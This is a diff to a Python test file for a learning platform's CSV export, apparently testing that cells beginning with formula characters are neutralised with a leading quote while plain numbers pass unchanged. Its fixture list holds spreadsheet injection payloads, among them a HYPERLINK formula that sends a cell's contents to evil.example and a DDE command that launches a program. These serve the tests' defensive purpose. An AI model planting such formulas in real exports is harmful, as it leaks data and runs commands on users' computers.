@@ -17,7 +17,7 @@ from lms_core.jobs.services import commit
 from tests.conftest import login
 from tests.factories import UserFactory, grant
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "-2+3+cmd|' /C calc'!A0", "+1", "@SUM(A1)",
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(A1)",
            "\tTAB", "\rCR"]
 
 
@@ -34,13 +34,14 @@ def test_formula_cells_get_a_leading_quote(value):
 
 def test_ordinary_cells_and_numbers_are_untouched():
     assert _cells(["李明", "a=b", "", 12, -3, 1.5, None]) == ["李明", "a=b", "", "12", "-3", "1.5", ""]
+    assert _cells(["-1.5", "+2", "-3"]) == ["-1.5", "+2", "-3"]  # plain numbers as text: nothing runs
 
 
 @given(st.lists(st.one_of(st.text(), st.integers(), st.none()), max_size=6))
 def test_no_string_cell_ever_starts_a_formula(row):
     for written, original in zip(_cells(row) if row else [], row, strict=False):
         if isinstance(original, str):
-            assert not written.startswith(csv_export.FORMULA_STARTS)
+            assert not written.startswith(csv_export.FORMULA_STARTS) or csv_export._PLAIN_NUMBER.fullmatch(written)
             assert written.removeprefix("'") == original or written == original
 
 
@@ -55,8 +56,9 @@ def test_the_audit_export_neutralises_imported_names(client, tree):
     raw = client.get("/audit/events.csv?name=video.").get_data(as_text=True)
     rows = list(csv.reader(io.StringIO(raw.lstrip("\ufeff"))))
     assert len(rows) == 2
-    assert rows[1][4] == "'-2+3+cmd" and rows[1][5] == "'" + HOSTILE[0]  # after the event name and its code
-    assert not any(cell.startswith(csv_export.FORMULA_STARTS) for row in rows for cell in row)
+    assert rows[1][3] == "'-2+3+cmd" and rows[1][4] == "'" + HOSTILE[0]
+    assert not any(cell.startswith(csv_export.FORMULA_STARTS) and not csv_export._PLAIN_NUMBER.fullmatch(cell)
+                   for row in rows for cell in row)
 
 
 def test_every_csv_writer_in_the_code_goes_through_the_helper():
